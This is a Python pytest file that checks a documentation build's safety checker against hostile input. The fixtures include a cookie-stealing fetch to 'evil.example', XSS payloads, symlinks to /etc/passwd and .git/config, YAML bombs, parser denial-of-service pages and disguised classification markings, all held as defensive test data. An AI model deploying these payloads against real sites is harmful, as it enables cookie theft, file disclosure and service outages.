"""Hostile and malformed input (issue #15): every case is dropped into a fresh copy of a small library
(tests/sites/minimal) and goes through the engine in process, as `make check` runs it: it must be refused
with the exact code at the exact `file:line` (or pass, for legitimate input), and never raise.

The build checks the sources with the same engine before rendering anything (the `scoe` adapter's
`on_config`), so a refused case is refused by both; for every case the check passes, the page is also
rendered in process the way the build renders it (the library's renderer, then Python-Markdown with
mkdocs.yml's extensions) and the build's own checks of the rendered page must find nothing more: the
*differential* part, run as well over a few thousand mutated pages. A few cases that only MkDocs itself can
show run as real `make check` / `make build` of the whole library (at the end of this file).
"""

from __future__ import annotations

import os
import random
import re
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import markdown
import pytest

from conftest import MINIMAL, ROOT, build, check, copy_library
from scoelib import model, refs, rules, safety
from scoelib.diagnostics import Severity
from scoelib.refs import Index
from scoelib.render import Renderer

PUB = "docs/publications/scoe-9-test"
CH = f"{PUB}/chapter-1.en.md"
CH_FR = f"{PUB}/chapter-1.fr.md"
IDX = f"{PUB}/index.en.md"
HOME = "docs/index.en.md"


# --- how a case breaks the library --------------------------------------------------------------------


def append(rel: str, text: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        path = root / rel
        path.write_text(path.read_text(encoding="utf-8").rstrip("\n") + "\n\n" + text + "\n", encoding="utf-8")
    return apply


def new_file(rel: str, content: str | bytes) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return apply


def replace(rel: str, old: str, new: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        path = root / rel
        text = path.read_text(encoding="utf-8")
        assert old in text, (old, rel)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return apply


def symlink(rel: str, target: str) -> Callable[[Path], None]:
    def apply(root: Path) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target.replace("{root}", str(root)))
    return apply


def fifo(rel: str) -> Callable[[Path], None]:
    return lambda root: os.mkfifo(root / rel)


def folder(rel: str) -> Callable[[Path], None]:
    return lambda root: (root / rel).mkdir(parents=True)


def appended_line(rel: str, offset: int = 0) -> Callable[[Path], int]:
    """The first line of text appended by `append` (plus `offset`)."""
    return lambda root: len((MINIMAL / rel).read_text(encoding="utf-8").rstrip("\n").split("\n")) + 2 + offset


@dataclass
class Case:
    name: str
    apply: Callable[[Path], None]
    file: str = ""  # where the finding must be ("" for legitimate input)
    code: str = ""
    line: Callable[[Path], int] | int | None = None


SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n{}\n</svg>\n'
NESTED_LIST = "\n".join("    " * i + "- item" for i in range(600))
BILLION_LAUGHS = ("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
                  "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n")

CASES = [
    # 1. every published file is checked; links and symbolic links never reach outside the repository
    Case("html-file-in-docs", new_file("docs/evil.html", "<script>alert(1)</script>\n<p onclick=x>NATO SECRET</p>\n"),
         "docs/evil.html", "SF009", 1),
    Case("svg-onload", new_file("docs/assets/evil.svg", SVG.replace("viewBox", 'onload="alert(1)" viewBox').format("<rect/>")),
         "docs/assets/evil.svg", "SF003", 1),
    Case("svg-script", new_file("docs/assets/evil.svg", SVG.format("<script>alert(1)</script>")), "docs/assets/evil.svg", "SF002", 2),
    Case("svg-foreign-object", new_file("docs/assets/f.svg", SVG.format("<foreignObject><p>x</p></foreignObject>")),
         "docs/assets/f.svg", "SF002", 2),
    Case("svg-marking", new_file("docs/assets/m.svg", SVG.format("<text>NATO\n  SECRET</text>")), "docs/assets/m.svg", "SF001", 2),
    Case("css-external-import", new_file("docs/assets/x.css", "body { color: red; }\n@import 'https://example.org/x.css';\n"),
         "docs/assets/x.css", "SF006", 2),
    Case("css-escaped-url", new_file("docs/assets/y.css", "a {\n  background: u\\72l(//example.org/t.png);\n}\n"),
         "docs/assets/y.css", "SF006", 2),
    Case("css-marking-in-comment", new_file("docs/assets/z.css", "/* DIFFUSION RESTREINTE */\na { color: red }\n"),
         "docs/assets/z.css", "SF001", 1),
    Case("js-fetches-another-host",
         new_file("docs/assets/x.js", "const a = 1;\nfetch('https://evil.example/steal?c=' + document.cookie);\n"),
         "docs/assets/x.js", "SF006", 2),
    Case("txt-with-marking", new_file("docs/assets/notes.txt", "NATO SECRET\n"), "docs/assets/notes.txt", "SF009", 1),
    Case("pdf", new_file("docs/assets/a.pdf", b"%PDF-1.4\nNATO SECRET\n"), "docs/assets/a.pdf", "SF009", 1),
    Case("disguised-png", new_file("docs/assets/a.png", "<html><script>alert(1)</script></html>"), "docs/assets/a.png", "SF009", 1),
    Case("upper-case-extension", new_file("docs/other.en.MD", "# Other\n\nNATO SECRET\n"), "docs/other.en.MD", "LD007", 1),
    Case("symlink-to-etc-passwd", symlink("docs/assets/passwd.txt", "/etc/passwd"), "docs/assets/passwd.txt", "SF008", 1),
    Case("symlink-to-git-config", symlink("docs/assets/config.css", "../../.git/config"), "docs/assets/config.css", "SF008", 1),
    Case("symlink-page", symlink("docs/linked.en.md", "{root}/docs/index.en.md"), "docs/linked.en.md", "SF008", 1),
    Case("folder-symlink-to-etc", symlink("docs/etc", "/etc"), "docs/etc", "SF008", 1),
    Case("broken-symlink-page", symlink("docs/broken.en.md", "nowhere.en.md"), "docs/broken.en.md", "SF008", 1),
    Case("self-symlink-page", symlink("docs/self.en.md", "self.en.md"), "docs/self.en.md", "SF008", 1),
    Case("link-outside-the-repository", append(CH, "[passwords](../../../../etc/passwd)"), CH, "LK004", appended_line(CH)),
    Case("link-to-a-repository-file", append(HOME, "[config](../mkdocs.yml)"), HOME, "LK004", appended_line(HOME)),
    # 2. markings however written
    Case("marking-wrapped-across-lines", append(CH, "This annex is NATO\nSECRET and more."), CH, "SF001", appended_line(CH)),
    Case("french-marking-wrapped", append(CH_FR, "Ce document est DIFFUSION\nRESTREINTE."), CH_FR, "SF001", appended_line(CH_FR)),
    Case("underscore-emphasis", append(CH, "_NATO SECRET_"), CH, "SF001", appended_line(CH)),
    Case("double-underscore", append(CH, "__COSMIC TOP SECRET__"), CH, "SF001", appended_line(CH)),
    Case("emphasis-inside-a-word", append(CH, "NATO **RESTR**ICTED"), CH, "SF001", appended_line(CH)),
    Case("html-entity-space", append(CH, "NATO&nbsp;CONFIDENTIAL"), CH, "SF001", appended_line(CH)),
    Case("numeric-entity", append(CH, "NATO &#83;ECRET"), CH, "SF001", appended_line(CH)),
    Case("decomposed-accent", append(CH_FR, "CONFIDENTIEL DE\u0301FENSE"), CH_FR, "SF001", appended_line(CH_FR)),
    Case("soft-hyphen", append(CH, "NA\u00adTO SE\u00adCRET"), CH, "SF001", appended_line(CH)),
    Case("zero-width-space", append(CH, "NATO SE\u200bCRET"), CH, "SF001", appended_line(CH)),
    Case("non-breaking-hyphen", append(CH, "OFFICIAL\u2011SENSITIVE"), CH, "SF001", appended_line(CH)),
    Case("cyrillic-e", append(CH, "NATO S\u0415CRET"), CH, "SF001", appended_line(CH)),
    Case("html-tags-inside", append(CH, "NATO <b>SECRET</b>"), CH, "SF001", appended_line(CH)),
    Case("blockquote-wrapped", append(CH, "> NATO\n> RESTRICTED"), CH, "SF001", appended_line(CH)),
    Case("yaml-quoted-continued", replace(IDX, "summary: A publication for tests.", 'summary: "A publication, NATO\n  SECRET."'),
         IDX, "SF001", 10),
    Case("yaml-escape", replace(IDX, "summary: A publication for tests.", 'summary: "\\u0044IFFUSION RESTREINTE"'), IDX, "SF001", 10),
    Case("glossary-escape", replace("data/glossary.yml", "definition: Understanding of the space domain and of what actors do in it.",
                                    'definition: "\\x4EOFORN. Understanding."'), "data/glossary.yml", "SF001", 8),
    Case("marking-in-code-block", append(CH, "```\nCOSMIC TOP SECRET\n```"), CH, "SF001", appended_line(CH, 1)),
    Case("swallowed-metadata-lines", new_file("docs/hidden.en.md", "Classification: NATO RESTRICTED\n\n# Hidden\n"),
         "docs/hidden.en.md", "SF001", 1),
    # 5. no traceback: each is a diagnostic at its line
    Case("date-that-does-not-exist", replace(IDX, "date: 2026-11-01", "date: 2026-02-30"), IDX, "LD003", 7),
    Case("folder-named-like-a-page", folder("docs/x.en.md")),
    Case("mapping-as-a-key", replace(IDX, "releasability: public", "releasability: public\nx: {[1]: 2}"), IDX, "LD003", 12),
    Case("complex-key", replace(IDX, "releasability: public", "releasability: public\n? {a: 1}\n: 2"), IDX, "LD003", 12),
    Case("recursive-alias", replace(IDX, "releasability: public", "releasability: public\nx: &a [*a]"), IDX, "LD003", 12),
    Case("deep-flow-nesting", replace(IDX, "releasability: public", "releasability: public\nx: " + "[" * 5000), IDX, "LD003", 12),
    Case("list-nested-600-levels", append(CH, NESTED_LIST), CH, "LD008", 1),  # 723 kB: over the size limit first
    Case("list-nested-100-levels", append(CH, "\n".join("    " * i + "- item" for i in range(100))), CH, "LD012", appended_line(CH, 16)),
    Case("div-markdown-nested-3000", append(CH, '<div markdown="1">\n' * 3000), CH, "LD012", appended_line(CH, 16)),
    Case("blockquotes-nested", append(CH, ">" * 2000 + " deep"), CH, "LD012", appended_line(CH)),
    Case("named-pipe-page", fifo("docs/x.en.md"), "docs/x.en.md", "LD011", 1),
    # 6. no hang: aliases are refused before anything expands
    Case("billion-laughs-front-matter", replace(IDX, "releasability: public", "releasability: public\n" + BILLION_LAUGHS),
         IDX, "LD003", 13),
    Case("billion-laughs-glossary", new_file("data/glossary.yml", BILLION_LAUGHS), "data/glossary.yml", "LD010", 2),
    Case("billion-laughs-custodians", new_file("data/custodians.yml", BILLION_LAUGHS), "data/custodians.yml", "LD010", 2),
    Case("many-unclosed-brackets", append(CH, "[a " * 4000), CH, "LD012", appended_line(CH)),
    Case("page-over-the-size-limit", new_file("docs/huge.en.md", "# Huge\n\n" + "`x ``y " * 40000), "docs/huge.en.md", "LD008", 1),
    # 7. active content
    Case("svg-animate-javascript",
         append(CH, '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'),
         CH, "SF004", appended_line(CH)),
    Case("svg-set-javascript", append(CH, '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>'),
         CH, "SF004", appended_line(CH)),
    Case("svg-feimage-external", append(CH, '<svg><filter id="f"><feImage href="https://example.org/x.png"/></filter></svg>'), CH, "SF006",
         appended_line(CH)),
    Case("css-escape-in-style", append(CH, '<span style="background: u\\72l(https://example.org/t.png)">x</span>'),
         CH, "SF005", appended_line(CH)),
    Case("image-set-in-style-block", append(CH, "<style>p { background: image-set('https://example.org/a.png' 1x) }</style>"), CH, "SF005",
         appended_line(CH)),
    Case("table-background", append(CH, '<table background="https://example.org/t.png"><tr><td>x</td></tr></table>'),
         CH, "SF006", appended_line(CH)),
    Case("a-ping", append(CH, '<a href="#x" ping="https://example.org/track">x</a>'), CH, "SF006", appended_line(CH)),
    Case("quoted-greater-than", append(CH, '<img alt=">" src="https://example.org/x.png">'), CH, "SF006", appended_line(CH)),
    Case("reference-style-javascript", append(CH, "[trap][t]\n\n[t]: javascript:alert(1)"), CH, "SF004", appended_line(CH, 2)),
    Case("script", append(CH, "<script>alert(1)</script>"), CH, "SF002", appended_line(CH)),
    Case("event-handler", append(CH, '<img src="x.png" alt="x" onerror="alert(1)">'), CH, "SF003", appended_line(CH)),
    Case("attr-list-handler", append(CH, 'A paragraph.\n{: onmouseover="alert(1)" }'), CH, "SF003", appended_line(CH, 1)),
    Case("javascript-link", append(CH, "[click me](javascript:alert(document.cookie))"), CH, "SF004", appended_line(CH)),
    Case("handler-in-front-matter-title", replace(IDX, "title: Test Publication", 'title: "Test <img src=x onerror=alert(1)>"'),
         IDX, "SF003", 3),
    # the author's side: what make check says is what make build does
    Case("template-in-link", append(CH, "[text]({{ var }})"), CH, "LK001", appended_line(CH)),
    Case("link-to-a-missing-translation-file", lambda root: [(root / f"{PUB}/chapter-1.fr.md").unlink(),
                                                             append(CH, "[French](chapter-1.fr.md)")(root)],
         CH, "LK003", appended_line(CH)),
    # legitimate input that must pass
    Case("nato-secretary-general", append(CH, "The NATO Secretary General and the\nNATO secretariat, _in confidence_.")),
    Case("reference-syntax-in-code", append(CH, "Write `[[SCOE-9#1.1]]` or:\n\n```markdown\n[[unknown term]] <script>\n```")),
    Case("escaped-reference", append(CH, "Literal \\[[brackets]] are fine.")),
    Case("own-image-and-css", lambda root: [new_file("docs/assets/ok.svg", SVG.format('<rect width="5" height="5" fill="#036"/>'))(root),
                                            new_file("docs/assets/ok.css", "a { background: url(ok.svg) }\n")(root),
                                            new_file("docs/assets/ok.png", b"\x89PNG\r\n\x1a\n" + bytes(32))(root),
                                            append(CH, "![a square](../../assets/ok.svg)")(root)]),
]


def engine(root: Path):
    """`make check` in process: the model, then every rule."""
    lib, diags = model.load(root)
    return lib, diags + rules.check(lib)


_MD: dict = {}


def rendered_findings(lib) -> list[tuple[str, str]]:
    """The build's checks of rendered pages, in process: each page through the library's renderer and
    Python-Markdown with mkdocs.yml's extensions, then the safety checks `on_page_content` runs."""
    if not _MD:
        from mkdocs.config import load_config

        cfg = load_config(str(ROOT / "mkdocs.yml"))
        _MD["md"] = markdown.Markdown(extensions=cfg["markdown_extensions"], extension_configs=cfg["mdx_configs"])
    md = _MD["md"]
    renderer = Renderer(lib, Index(lib))
    out = []
    for (_, lang), page in sorted(lib.pages.items()):
        md.reset()
        html = md.convert(renderer.page_markdown(page, lang).markdown)
        out += [(page.rel, f.code) for f in safety.check_html(html)]
    return out


def errors_of(diags, translations: bool = True):
    return [d for d in diags if d.severity is Severity.ERROR and (translations or not d.code.startswith("TR"))]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_input(mini, case):
    case.apply(mini)
    started = time.process_time()
    lib, diags = engine(mini)  # never raises
    assert time.process_time() - started < 10, "the check took too long"
    errors = errors_of(diags)
    shown = "\n".join(d.format() for d in diags)
    if not case.code:
        assert not errors, shown
    else:
        line = case.line(mini) if callable(case.line) else case.line
        assert [d for d in errors if d.code == case.code and d.file == case.file and (line is None or d.line == line)], \
            f"expected {case.file}:{line}: {case.code} in:\n{shown}"
    if not errors:  # the build renders only what the check passed: it must find nothing more
        assert rendered_findings(lib) == []


# --- one test per limit -----------------------------------------------------------------------------


def _timed_check(root: Path):
    started = time.process_time()
    lib, diags = engine(root)
    return diags, time.process_time() - started


def test_limit_page_size(mini):
    (mini / "docs/big.en.md").write_text("# Big\n\n" + "x" * (model.MAX_PAGE_BYTES + 10), encoding="utf-8")
    (mini / "docs/fine.en.md").write_text("# Fine\n\n" + "word " * 40000, encoding="utf-8")  # 200 kB: under it
    diags, _ = _timed_check(mini)
    assert [(d.file, d.code) for d in errors_of(diags, translations=False)] == [("docs/big.en.md", "LD008")]


def test_limit_nesting_depth(mini):
    ok = "\n".join("    " * i + "- item" for i in range(model.MAX_NESTING))
    deep = "\n".join("    " * i + "- item" for i in range(model.MAX_NESTING + 1))
    (mini / "docs/ok.en.md").write_text(f"# Ok\n\n{ok}\n\n" + "> " * model.MAX_NESTING + "quote\n", encoding="utf-8")
    (mini / "docs/deep.en.md").write_text(f"# Deep\n\n{deep}\n", encoding="utf-8")
    diags, _ = _timed_check(mini)
    assert [(d.file, d.line, d.code) for d in errors_of(diags, translations=False)] == [("docs/deep.en.md", 3 + model.MAX_NESTING, "LD012")]


def test_limit_yaml_depth(mini):
    from scoelib import yamlutil

    ok = "x: " + "[" * yamlutil.MAX_DEPTH + "]" * yamlutil.MAX_DEPTH
    (mini / "docs/ok.en.md").write_text(f"---\n{ok}\n---\n\n# Ok\n", encoding="utf-8")
    (mini / "docs/deep.en.md").write_text(f"---\nx: {'[' * (yamlutil.MAX_DEPTH + 1)}\n---\n\n# Deep\n", encoding="utf-8")
    diags, _ = _timed_check(mini)
    found = [(d.file, d.line, d.code) for d in errors_of(diags) if d.code == "LD003"]
    assert found == [("docs/deep.en.md", 2, "LD003")]


def test_limit_brackets_per_paragraph(mini):
    """Python-Markdown takes minutes over a paragraph of 4,000 unclosed `[` (or `<a `): refused before."""
    ok = "[a " * model.MAX_BRACKETS
    table = "| a | b |\n|---|---|\n" + "| [a](index.md) | [b](index.md) |\n" * 300  # cells are rendered one by one
    (mini / "docs/ok.en.md").write_text(f"# Ok\n\n{ok}\n\n{ok}\n\n{table}", encoding="utf-8")  # two paragraphs at the limit
    (mini / "docs/many.en.md").write_text("# Many\n\nText.\n\n" + "[a " * 4000 + "\n", encoding="utf-8")
    (mini / "docs/tags.en.md").write_text("# Tags\n\n" + "<a \n" * (model.MAX_BRACKETS + 1), encoding="utf-8")
    diags, spent = _timed_check(mini)
    assert [(d.file, d.line, d.code) for d in errors_of(diags, translations=False) if d.code == "LD012"] == \
        [("docs/many.en.md", 5, "LD012"), ("docs/tags.en.md", 3, "LD012")]
    assert not [d for d in errors_of(diags, translations=False) if d.file == "docs/ok.en.md"]


def test_limit_render_time():
    """The net under the check's limits: a page that takes too long to render stops the build with LD013."""
    from mkdocs.exceptions import PluginError

    from scoelib.mkdocs_plugin import plugin as hook

    with pytest.raises(PluginError, match=r"^docs/slow\.en\.md:1:1: LD013 the page took more than 0\.2 s"):
        hook.render_limit("docs/slow.en.md", 0.2)
        while True:  # processor time, as Python-Markdown would spend it
            sum(range(1000))
    hook.render_limit("", 0)  # disarmed: nothing fires later
    started = time.process_time()
    while time.process_time() - started < 0.4:
        sum(range(1000))


@pytest.mark.parametrize("body", ["[[" * 120_000, "`x ``y " * 36_000, "<!--" * 60_000, "`" * 60_000 + "\n" + "``" * 60_000],
                         ids=["unclosed-references", "backtick-runs", "comment-openers", "long-backtick-lines"])
def test_limit_time_on_pathological_pages_under_the_size_limit(mini, body):
    """Each of these pages is under the size limit; each used to take from 11 s to minutes."""
    (mini / "docs/slow.en.md").write_text("# Slow\n\n" + body + "\n", encoding="utf-8")
    diags, spent = _timed_check(mini)
    assert spent < 5, f"{spent:.1f} s of CPU"
    if body.startswith("[["):
        unclosed = [d for d in diags if d.code == "XR008"]
        assert len(unclosed) == 120_000 and unclosed[-1].line == 3 and unclosed[-1].column == 2 * 120_000 - 1


# --- the differential test: check and build agree on mutated pages --------------------------------------

FRAGMENTS = [
    "[x](chapter-1.md#1.1)", "[x](chapter-1.en.md)", "[x](chapter-1.md#nope)", "[x]({{ var }})", "[x](../nowhere.md)", "[x](<a b.md>)",
    "[x]( index.md )",
    "<span>y</span>", '<img src="x.png" alt=">">', '<a href="https://example.org/">ok</a>', "<b>NATO</b>", "`code <script>`",
    "<!-- comment -->", "[[SDA]]", "[[SCOE-9#1.1]]", "\\[[literal]]", "*emph*", "_emph_", "&amp;", "&#60;script&#62;", "{: .cls }",
    '<div markdown="1">\n\ntext\n\n</div>', "> quote", "- item", "1. item", "| a | b |\n|---|---|\n| 1 | 2 |", "![alt](x.png)",
    "[ref][r]\n\n[r]: chapter-1.md", '<svg><rect width="1" height="1"/></svg>', "<details><summary>s</summary>t</details>", "x\u00ady",
    "\u00a0", "NATO", "SECRET", "Secretary", "<abbr title=\"t\">T</abbr>", '<a href="javascript:x">j</a>', '<p style="color:red">s</p>',
    '<p style="background:url(x.png)">s</p>', "```\n<script>\n```", "~~~\n~~~", "<style>p{}</style>", "<", ">", "&", "[", "]", "(", ")",
]


def test_check_and_build_agree_on_mutated_pages(mini):
    """Two thousand pages, each the minimal chapter with a few fragments above inserted at random lines;
    whenever the check passes a page, rendering it must not find anything the check missed."""
    rnd = random.Random(15)
    base = (mini / CH).read_text(encoding="utf-8").split("\n")
    lib, _ = engine(mini)
    key = "publications/scoe-9-test/chapter-1"
    original = lib.page(key, "en")
    index = Index(lib)  # the glossary and the publications do not change: one index, one renderer
    renderer = Renderer(lib, index)
    # only the page changes: the rules that read pages run over it alone (the data files, the assets, the
    # other pages and the translation status stay as checked above)
    page_rules = [rules.page_meta, rules.paragraphs, rules.links, rules.references, safety.markings_rule, safety.active_content_rule]
    lib.raw_data, lib.data_yaml, lib.assets = {}, {}, []
    passed = refused = 0
    for _ in range(2000):
        lines = list(base)
        for _ in range(rnd.randint(1, 4)):
            lines.insert(rnd.randint(5, len(lines)), rnd.choice(FRAGMENTS) + rnd.choice(["", " ", "\n", "\n\n"]))
        text = "\n".join(lines)
        diags: list = []
        page = model.parse_page(CH, key, "en", text, diags)  # what model.load makes of the file
        page.publication, page.chapter = original.publication, original.chapter
        page.paragraphs = model._paragraphs(page, 1)
        original.publication.chapters[1]["en"] = page
        lib.pages = {(key, "en"): page}
        if [d for d in errors_of(diags + [d for rule in page_rules for d in rule(lib, index)]) if d.file == CH]:
            refused += 1
            continue
        passed += 1
        renderer._refs[(key, "en")] = [(r, index.resolve(r, "en")) for r in refs.find(page)[0]]
        found = rendered_findings_of(renderer, page)
        assert not found, f"the build refuses what the check passed: {found}\n---\n{text}"
    assert passed > 200 and refused > 200, (passed, refused)


def rendered_findings_of(renderer, page) -> list:
    if not _MD:
        rendered_findings(renderer.lib)
    md = _MD["md"]
    md.reset()
    html = md.convert(renderer.page_markdown(page, page.lang).markdown)
    return [(f.code, f.message) for f in safety.check_html(html)]


# --- a few real builds: what only MkDocs itself shows ---------------------------------------------------

FULL = [
    # published files of every kind at once; make check and make build must both refuse, naming each
    ("published-files", lambda root: [symlink("docs/assets/passwd.txt", "/etc/passwd")(root),
                                      new_file("docs/evil.html", "<script>alert(1)</script>\n")(root),
                                      new_file("docs/other.en.MD", "# Other\n")(root),
                                      new_file("docs/assets/evil.svg", SVG.format("<script>alert(1)</script>"))(root)],
     ["docs/assets/passwd.txt:1:1: SF008", "docs/evil.html:1:1: SF009", "docs/other.en.MD:1:1: LD007", "docs/assets/evil.svg:2:1: SF002"]),
    # a link target with spaces: Python-Markdown reads `{{ var }}`, MkDocs warns; the check names it first
    ("template-in-link", append("docs/about/index.en.md", "[text]({{ var }})"), ["docs/about/index.en.md:"]),
]


@pytest.mark.parametrize("name,apply,expected", FULL, ids=[f[0] for f in FULL])
def test_make_check_and_make_build_agree(tmp_path, name, apply, expected):
    root = copy_library(tmp_path / "lib")
    apply(root)
    for command, res in (("check", check(root)), ("build", build(root, tmp_path / "site"))):
        out = res.stdout + res.stderr
        assert "Traceback" not in out, f"make {command}:\n{out[-3000:]}"
        assert res.returncode != 0, f"make {command} accepted {name}:\n{out[-3000:]}"
        for where in expected:
            assert where in out, f"make {command}: {where!r} not in:\n{out[-3000:]}"
    assert not (tmp_path / "site" / "assets" / "passwd.txt").exists()


# --- make serve rebuilds on what authors edit outside docs/ ---------------------------------------------


def test_serve_rebuilds_when_the_glossary_changes(tmp_path):
    """`make serve` watches data/ (and overrides/, the engine): a glossary edit shows without a restart."""
    import socket
    import subprocess
    import urllib.request

    root = copy_library(tmp_path / "lib")
    glossary = root / "data/glossary.yml"
    text = glossary.read_text(encoding="utf-8")
    first = re.search(r"^    definition: (.+)$", text, re.M)
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "PYTHONDONTWRITEBYTECODE": "1", "SCOE_ONLY_LANG": "en"}
    proc = subprocess.Popen([str(ROOT / ".venv/bin/mkdocs"), "serve", "--strict", "-a", f"127.0.0.1:{port}"], cwd=root, env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)

    def glossary_page() -> str:
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/glossary/", timeout=5) as res:
                return res.read().decode("utf-8")
        except OSError:
            return ""

    def wait_for(text: str) -> None:
        deadline = time.monotonic() + 240
        while text not in glossary_page():
            assert proc.poll() is None, proc.stderr.read()[-3000:]
            assert time.monotonic() < deadline, f"{text!r} never appeared"
            time.sleep(0.2)

    try:
        wait_for(first.group(1).strip("\"")[:40])
        glossary.write_text(text.replace(first.group(0), "    definition: A definition edited while the preview runs.", 1),
                            encoding="utf-8")
        wait_for("A definition edited while the preview runs.")
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def test_the_whole_text_shortcut_reads_markings_as_the_line_by_line_normalisation_does():
    """`make check` reads most pages through `normalise.quick_text` (C-speed string methods over the whole
    text); it must give exactly the text the line-by-line normalisation gives, or None."""
    import random

    from scoelib import normalise
    texts = [p.read_text(encoding="utf-8") for p in sorted((ROOT / "docs").rglob("*.md"))]
    assert sum(normalise.quick_text(t) is not None for t in texts) > len(texts) // 2  # the shortcut is taken
    pieces = ["NATO", " ", "  ", "\n", "\n\n", "SECRET", "*", "_", "`", "~", "^", "\t", "> ", "-", "\u2013", "é", "\u0435",
              "\u00ad", "&#83;", "<b>", "-->", "e\u0301", "\u017f", "\u0131", "\u00a0", "\u202f", "\r", "\ufb01", "\u1100\u1161",
              "\x0b", "\u3000", "\uff3f", "\u2011", "\u200b", "Ε"]
    rnd = random.Random(15)
    texts += ["".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 30))) for _ in range(20_000)]
    for text in texts:
        quick = normalise.quick_text(text)
        assert quick is None or quick == normalise.normalise(text).text, repr(text)
